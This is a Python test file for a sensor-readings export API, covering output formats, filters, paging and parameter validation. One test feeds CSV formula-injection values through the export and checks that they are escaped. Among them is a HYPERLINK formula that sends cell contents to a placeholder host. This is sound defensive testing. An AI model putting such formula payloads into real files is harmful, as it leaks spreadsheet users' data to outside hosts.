"""Stored readings, in pages and as files: the same rows in every format."""

import asyncio
import csv
import io
import json
import re
from collections.abc import Callable, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx2
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pydantic import SecretStr

from api.http.csv_dialects import escape_formulas, unescape_formulas
from core.database import Pool
from core.imports import ImportOptions
from core.readings import EARLIEST, LATEST
from core.settings import DatabaseSettings, ReadingSettings, StorageSettings, WorkerSettings
from core.storage import Storage
from jobs.csv_import.context import ImportContext
from tests.api.http.test_problem_details import assert_problem
from tests.api.stored import HOUR, insert
from tests.conftest import empty_database
from tests.jobs.support import ImportCounts, run_import
from tests.support.ids import is_stored_unchanged

PATH = "/sensor-data"
NOON = datetime(2026, 3, 10, 12, tzinfo=UTC)
MICROSECOND = timedelta.resolution
COLUMNS = ["equipmentId", "timestamp", "value", "registerTime"]
FILE_FORMATS = ["ndjson", "csv", "parquet", "arrow"]

Reading = tuple[str, datetime, float]
Row = tuple[str, datetime, float, datetime]

FORM = settings(
    deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=8
)

any_ids = st.text(
    st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffd"),
    min_size=1,
    max_size=8,
).filter(str.strip)
any_readings = st.lists(
    st.tuples(
        any_ids | st.sampled_from(["a", 'q"uote', "com,ma", " b ", "=1+1", "a*"]),
        st.datetimes(datetime(1950, 1, 1), datetime(2026, 1, 1), timezones=st.just(UTC))  # noqa: DTZ001  # made aware
        | st.sampled_from([NOON, EARLIEST]),
        st.floats(-1e300, 1e300).filter(lambda number: not number or abs(number) >= 1e-290),
    ),
    max_size=12,
    unique_by=lambda row: row[:2],
)


def with_valid_ids(stored: Sequence[Reading]) -> list[Reading]:
    """The readings that a file may bring, in which no two ids are stored as one."""
    return [reading for reading in stored if is_stored_unchanged(reading[0])]


def row_of(reading: dict[str, Any]) -> Row:
    assert list(reading) == COLUMNS
    ts, registered = (
        datetime.fromisoformat(reading[name]) for name in ("timestamp", "registerTime")
    )
    return reading["equipmentId"], ts, float(reading["value"]), registered


def from_table(table: pa.Table) -> list[Row]:
    assert table.schema.names == COLUMNS
    return [tuple(row.values()) for row in table.to_pylist()]


READERS: dict[str, Callable[[bytes], list[Row]]] = {
    "json": lambda body: [row_of(item) for item in json.loads(body)["items"]],
    "ndjson": lambda body: [row_of(json.loads(line)) for line in body.splitlines()],
    "csv": lambda body: [row_of(row) for row in csv.DictReader(io.StringIO(body.decode(), ""))],
    "parquet": lambda body: from_table(pq.read_table(io.BytesIO(body))),
    "arrow": lambda body: from_table(pa.ipc.open_stream(io.BytesIO(body)).read_all()),
}


async def rows_by_sql(pool: Pool, condition: str = "true", *values: object) -> list[Row]:
    rows = await pool.fetch(
        f"""
        SELECT equipment_id, ts, value, register_time FROM readings
        WHERE {condition} ORDER BY ts, equipment_id
        """,
        *values,
    )
    return [tuple(row) for row in rows]


async def rows_by_pages(client: httpx2.AsyncClient, **parameters: Any) -> list[Row]:
    rows: list[Row] = []
    cursor: dict[str, str] = {}
    while True:
        response = await client.get(PATH, params={**parameters, **cursor})
        page = response.raise_for_status().json()
        assert len(page["items"]) <= int(parameters.get("limit", 1000))
        rows += [row_of(item) for item in page["items"]]
        if page["nextCursor"] is None:
            return rows
        cursor = {"cursor": page["nextCursor"]}


async def rows_in(client: httpx2.AsyncClient, form: str, **parameters: Any) -> list[Row]:
    response = await client.get(PATH, params={**parameters, "format": form})
    return READERS[form](response.raise_for_status().content)


@FORM
@given(stored=any_readings)
async def test_every_format_carries_the_rows_of_the_table(
    client: httpx2.AsyncClient, pool: Pool, stored: Sequence[Reading]
) -> None:
    await empty_database(pool)
    await insert(pool, *stored)
    rows = await rows_by_sql(pool)
    assert len(rows) == len(stored)
    for form in READERS:
        assert await rows_in(client, form) == rows
    assert await rows_by_pages(client, limit=3) == rows
    assert await rows_by_pages(client, limit=3, equipmentId=["a", "a*"]) == [
        row for row in rows if row[0].startswith("a")
    ]


@settings(FORM, max_examples=4)
@given(stored=any_readings.map(with_valid_ids).filter(len))
async def test_an_exported_csv_is_imported_again_to_unchanged(
    client: httpx2.AsyncClient,
    pool: Pool,
    application_pool: Pool,
    *,
    migrated_url: str,
    tmp_path: Path,
    stored: Sequence[Reading],
) -> None:
    await empty_database(pool)
    await insert(pool, *stored)
    before = await rows_by_sql(pool)
    exported = (await client.get(PATH, params={"format": "csv"})).content
    worker = ImportContext(
        Storage.open(StorageSettings(url=str(tmp_path))),
        DatabaseSettings(url=SecretStr(migrated_url)),
        WorkerSettings(),
        ReadingSettings(),
        asyncio.Event(),
        1000,
        application_pool,
    )
    outcome = await run_import(worker, exported, options=ImportOptions(earliest=EARLIEST))
    assert outcome.state == "done"
    assert outcome.counts == ImportCounts(read=len(stored), unchanged=len(stored))
    assert await rows_by_sql(pool) == before


async def test_a_range_and_equipment_filter_in_every_format(
    client: httpx2.AsyncClient, pool: Pool
) -> None:
    timestamps = [NOON - MICROSECOND, NOON, NOON + HOUR - MICROSECOND, NOON + HOUR]
    names = ["a", "a1", "b", "_", "c"]
    await insert(pool, *((name, ts, 1) for name in names for ts in timestamps))
    time_range = {"from": NOON.isoformat(), "to": (NOON + HOUR).isoformat()}
    for selection, selected in (
        ([], names),
        (["a"], ["a"]),
        (["b", "a*", "a"], ["a", "a1", "b"]),
        (["_*"], ["_"]),
        (["none", "none*"], []),
        (["c", "b", "c"], ["b", "c"]),
    ):
        rows = await rows_by_sql(
            pool, "equipment_id = any($1) AND ts >= $2 AND ts < $3", selected, NOON, NOON + HOUR
        )
        assert len(rows) == 2 * len(selected)
        for form in READERS:
            assert await rows_in(client, form, **time_range, equipmentId=selection) == rows
        for limit in (1, 2, 10_000):
            assert (
                await rows_by_pages(client, **time_range, equipmentId=selection, limit=limit)
                == rows
            )


async def test_without_a_range_all_time_is_meant(client: httpx2.AsyncClient, pool: Pool) -> None:
    await insert(pool, ("a", EARLIEST, 1), ("a", LATEST, 2))
    for form in READERS:
        assert [row[2] for row in await rows_in(client, form)] == [1, 2]
    assert [row[2] for row in await rows_in(client, "json", to="2026-01-01T00:00:00Z")] == [1]


async def test_a_file_of_more_than_one_fetch_is_complete(
    client: httpx2.AsyncClient, pool: Pool
) -> None:
    await pool.execute(
        """
        INSERT INTO readings SELECT name, $1::timestamptz + n * interval '7 seconds', n / 3.0
        FROM generate_series(1, 3000) AS n, unnest(array['a', 'b', 'c']) AS name
        """,
        NOON,
    )
    rows = await rows_by_sql(pool)
    for form in FILE_FORMATS:
        assert await rows_in(client, form) == rows


@pytest.mark.parametrize(
    ("accept", "media_type"),
    [
        ("", "application/json"),
        ("*/*", "application/json"),
        ("text/html, */*;q=0.1", "application/json"),
        ("text/csv", "text/csv; charset=utf-8"),
        ("application/json;q=0.1, application/x-ndjson", "application/x-ndjson"),
        ("application/vnd.apache.parquet", "application/vnd.apache.parquet"),
        ("application/vnd.apache.arrow.stream", "application/vnd.apache.arrow.stream"),
    ],
)
async def test_the_header_accept_gives_the_format_unless_the_parameter_does(
    client: httpx2.AsyncClient, accept: str, media_type: str
) -> None:
    response = await client.get(PATH, headers={"Accept": accept})
    assert response.headers["content-type"] == media_type
    assert response.headers["vary"] == "Accept"
    named = await client.get(PATH, headers={"Accept": accept}, params={"format": "ndjson"})
    assert named.headers["content-type"] == "application/x-ndjson"
    assert named.headers["content-disposition"] == 'attachment; filename="readings.ndjson"'


@pytest.mark.parametrize(
    ("equipment_id", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-5.2", "'-5.2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\uff1d1", "'\uff1d1"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("a;=1;b", "a;'=1;b"),
        ('x;"=1&"', 'x;\'"=1&"'),
        (" =1", "' =1"),
        ("'=1", "''=1"),
        (
            '=HYPERLINK("https://x.example/?"&A2,"ok")',
            '\'=HYPERLINK("https://x.example/?"&A2,"ok")',
        ),
        ("pump-1", "pump-1"),
        ("a=b", "a=b"),
        ("é", "é"),
    ],
)
async def test_a_spreadsheet_gets_no_formula_and_numbers_stay_numbers(
    client: httpx2.AsyncClient, pool: Pool, equipment_id: str, cell: str
) -> None:
    await insert(pool, (equipment_id, NOON, -5.2))
    query = {"format": "csv", "csvDialect": "spreadsheet"}
    text = (await client.get(PATH, params=query)).raise_for_status().content.decode()
    header, line = list(csv.reader(io.StringIO(text, "")))
    assert header == COLUMNS
    assert line[:3] == [cell, NOON.isoformat(), "-5.2"]
    assert ",-5.2," in text  # unquoted: a number, and no text with an apostrophe
    plain = (await client.get(PATH, params=query | {"csvDialect": "plain"})).content
    assert plain == (await client.get(PATH, params={"format": "csv"})).content
    assert plain.partition(b"\n")[2].decode().strip('"').startswith(equipment_id[:1])


@given(
    text=st.text(
        st.sampled_from("=+-@\t\r\n';, \"a\uff1d\uff0b\uff0d\uff20") | st.characters(), max_size=20
    )
)
def test_what_was_escaped_for_a_spreadsheet_can_be_read_again(text: str) -> None:
    escaped = escape_formulas(text)
    assert unescape_formulas(escaped) == text
    for cell in re.split("[;\t\r\n]", escaped):
        assert not re.match('[ "]*[=+@\\-\uff1d\uff0b\uff0d\uff20]', cell)


async def test_an_unknown_format_is_rejected_with_the_known_ones(
    client: httpx2.AsyncClient,
) -> None:
    problem = assert_problem(await client.get(f"{PATH}?format=xml"), 400, "validation_error")
    assert problem["message"] == f"format must be one of {', '.join(READERS)}"
    response = await client.get(PATH, headers={"Accept": "application/xml, image/*"})
    assert "text/csv" in assert_problem(response, 406, "not_acceptable")["message"]


@pytest.mark.parametrize(
    ("query", "field", "code"),
    [
        ("speed=1", "speed", "unknown_parameter"),
        ("from=2026-01-01", "from", "bad_timestamp"),
        ("from=2026-01-01T00:00:00Z&to=2026-01-01T00:00:00Z", "to", "validation_error"),
        ("equipmentId=", "equipmentId", "missing_value"),
        ("limit=0", "limit", "validation_error"),
        ("limit=10001", "limit", "validation_error"),
        ("cursor=x", "cursor", "invalid_cursor"),
        ("format=csv&limit=1", "limit", "validation_error"),
        ("format=csv&cursor=x", "cursor", "validation_error"),
        ("format=csv&csvDialect=excel", "csvDialect", "validation_error"),
        ("format=ndjson&csvDialect=spreadsheet", "csvDialect", "validation_error"),
        ("csvDialect=spreadsheet", "csvDialect", "validation_error"),
    ],
)
async def test_an_invalid_parameter_is_rejected_by_name(
    client: httpx2.AsyncClient, query: str, field: str, code: str
) -> None:
    problem = (await client.get(f"{PATH}?{query}")).json()
    assert problem["status"] == 400
    assert {"field": field, "code": code} in [
        {"field": error["field"], "code": error["code"]} for error in problem["errors"]
    ]
